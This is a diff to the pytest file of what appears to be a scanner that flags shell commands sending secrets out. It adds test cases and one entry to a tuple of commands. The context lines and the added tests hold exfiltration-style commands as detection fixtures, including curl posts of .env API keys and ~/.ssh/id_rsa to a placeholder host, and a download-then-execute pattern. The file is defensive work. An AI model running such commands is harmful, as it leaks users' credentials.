@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from rye.describing.words import fact_words
 from rye.text.facts import ALARM, CAUTION, find_facts
 
 COMMANDS = (
@@ -51,6 +52,7 @@ HONEST_COMMANDS = (
     "mail -s 'rotate .env' a@x.example < notes.txt",
     'K=$(cat .env | grep API_KEY | cut -d= -f2)\ncurl "https://x.example/?key=$K"',
     "env | wc -l | curl -d @- https://x.example",
+    'curl -d "$(env | wc -l)" https://x.example',
     "ssh u@h 'cat > /srv/.env' < .env",
     "T=$(security find-generic-password -s x -w)\ncurl -d token=$T https://x.example",
     "ssh -i ~/.ssh/id_rsa h.example uptime",
@@ -290,6 +292,17 @@ def test_the_alarm_says_what_is_read_and_what_sends_it_where_it_leaves() -> None
     assert alarm.value == "base64 ~/.ssh/id_rsa ; curl -d @/tmp/x https://x.example"
     assert (alarm.line, alarm.column) == (3, 1)
     assert any(fact.level == CAUTION and fact.value == "~/.ssh/id_rsa" for fact in facts)
+
+
+def test_the_alarm_says_that_secrets_are_sent_and_the_caution_that_a_place_is_named() -> None:
+    assert fact_words("secret-path", ALARM) == "sends secrets"
+    assert fact_words("secret-path", CAUTION) == "names a place of secrets"
+
+
+def test_what_is_downloaded_once_and_run_on_many_lines_is_told_three_times() -> None:
+    uses = "".join(f"./lint file{number}\n" for number in range(10))
+    facts = find_facts({"run.sh": f"curl -o lint https://x.example/lint && chmod +x lint\n{uses}"})
+    assert len([fact for fact in facts if fact.level == ALARM]) == 3
 
 
 def test_a_path_of_windows_is_a_place_of_secrets() -> None:
